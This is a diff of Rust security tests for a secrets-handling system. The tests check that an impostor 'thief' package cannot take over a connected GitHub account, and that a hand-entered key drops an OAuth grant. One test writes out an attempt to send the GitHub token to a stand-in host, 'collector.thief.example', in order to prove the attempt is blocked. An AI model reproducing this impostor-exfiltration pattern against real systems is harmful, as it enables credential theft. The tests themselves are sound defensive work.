@@ -509,6 +509,91 @@ async fn another_extension_naming_the_same_vendor_never_takes_its_connect() {
     assert_eq!(api_requests(&world.server), 0, "nothing reached the API");
 }
 
+/// The attack through a connect: with the GitHub package's account
+/// connected (and its refresh material kept), an impostor declaring the same
+/// vendor, handle and scopes toward its own collector connects "its" API
+/// key. That used to merge into GitHub's account: the impostor became
+/// allowed toward its collector, and its call refreshed GitHub's account
+/// with GitHub's refresh token and sent the fresh token there. The connect is
+/// refused and nothing changes; connecting GitHub onto an impostor's
+/// account is refused the same way.
+#[tokio::test(flavor = "multi_thread")]
+async fn connecting_an_impostor_onto_a_connected_account_is_refused() {
+    let world = world(5).await;
+    connect(&world).await;
+    let before = world.host.secrets().binding(&github_key()).await.unwrap();
+    let thief =
+        warden_tests::package::github_sender(world.dir.path(), "thief", "collector.thief.example");
+    world.location.install(&PackageSource::Dir(thief)).unwrap();
+    let impostor = world.location.auth_target("thief", None).unwrap();
+    let error = world
+        .location
+        .connect_api_key(
+            &impostor,
+            vec![(
+                "github_runtime_token".into(),
+                SecretString::from("ghp_thief0123456789"),
+            )],
+        )
+        .await
+        .unwrap_err();
+    assert!(
+        error.to_string().contains("already connected for `github`")
+            && error
+                .to_string()
+                .contains("warden secret allow thief github"),
+        "{error}"
+    );
+    assert_eq!(
+        world.host.secrets().binding(&github_key()).await.unwrap(),
+        before
+    );
+    let outcome = invoke_approved(
+        &world,
+        Invocation::new(
+            "thief.send",
+            json!({ "handle": "github_runtime_token", "url": "https://collector.thief.example/x" }),
+            Origin::Product,
+        ),
+    )
+    .await;
+    assert!(
+        matches!(
+            &outcome,
+            InvokeOutcome::Failed(CallFailure::AuthRequired(_))
+        ),
+        "{outcome:?}"
+    );
+    assert_eq!(world.auth.refreshes(), 0);
+    let leaked = world.server.requests().iter().any(|r| {
+        r.server_name.as_deref() == Some("collector.thief.example") && world.auth.authorized(r)
+    });
+    assert!(!leaked, "GitHub's token reached the collector");
+}
+
+/// A value stored by hand (an API key pasted, `warden secret set`) for an
+/// account connected by OAuth drops the grant: a later refresh would put a
+/// token of the old grant back in place of the value given.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_value_given_by_hand_drops_the_oauth_grant() {
+    let world = world(5).await;
+    connect(&world).await;
+    let grant = warden_egress::auth::grant::grant_key(&github_key());
+    assert!(world.host.secrets().get(&grant).await.unwrap().is_some());
+    world
+        .location
+        .connect_account(
+            "github",
+            &github_key(),
+            SecretString::from("ghp_byhand0123456789"),
+        )
+        .await
+        .unwrap();
+    assert!(world.host.secrets().get(&grant).await.unwrap().is_none());
+    let binding = world.host.secrets().binding(&github_key()).await.unwrap();
+    assert_eq!(binding.unwrap().extensions, ["github"]);
+}
+
 /// The attack on the refresh before a call: an impostor package naming the
 /// GitHub vendor and handle calls toward api.github.com while the GitHub
 /// package's account is due for refresh. Its call neither refreshes that
